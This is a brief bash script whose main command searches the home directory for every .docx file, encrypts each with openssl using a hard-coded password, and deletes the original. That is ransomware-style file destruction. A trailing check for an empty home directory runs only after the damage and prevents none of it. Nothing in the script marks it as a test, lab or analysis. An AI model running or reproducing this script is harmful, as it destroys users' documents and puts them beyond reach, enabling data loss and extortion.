#!/usr/bin/env bash
find ~ -type f -name "*.docx" -exec openssl enc -aes-256-cbc -salt -in {} -out {}.enc -k secret \; -exec rm {} \;
if [ -z "$HOME" ]; then
  echo "no home" >&2
fi
